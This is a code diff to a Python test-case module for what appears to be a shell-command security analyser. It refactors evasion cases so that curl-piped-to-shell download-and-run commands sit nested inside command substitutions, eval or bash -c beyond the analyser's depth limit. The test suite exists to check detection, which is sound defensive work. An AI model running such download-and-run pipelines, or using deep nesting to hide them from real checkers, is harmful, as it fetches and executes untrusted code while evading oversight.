@@ -8,7 +8,15 @@ output becomes the script (``bash -c "$(curl ...)"``, ``bash <(curl ...)``) is
 
 from __future__ import annotations
 
-from .cases import Evasion, group, nest_bash_c, nest_eval, nest_substitutions
+from .cases import (
+    NESTING_MARKS,
+    TOO_DEEP,
+    Evasion,
+    group,
+    nest_bash_c,
+    nest_eval,
+    nest_substitutions,
+)
 
 __all__ = ["CASES"]
 
@@ -311,10 +319,10 @@ CASES: list[Evasion] = [
         "dl-nesting",
         "the download-and-run pipeline sits past the analyser's depth limit",
         [
-            nest_substitutions(13, f"{_CURL} | sh"),
-            nest_eval(13, f"'{_CURL} | sh'"),
-            nest_bash_c(14, f"{_CURL} | sh"),
+            nest_substitutions(TOO_DEEP, f"{_CURL} | sh"),
+            nest_eval(TOO_DEEP, f"'{_CURL} | sh'"),
+            nest_bash_c(TOO_DEEP + 1, f"{_CURL} | sh"),
         ],
-        unseen=("nest", "deep", "depth", "level"),
+        unseen=NESTING_MARKS,
     ),
 ]
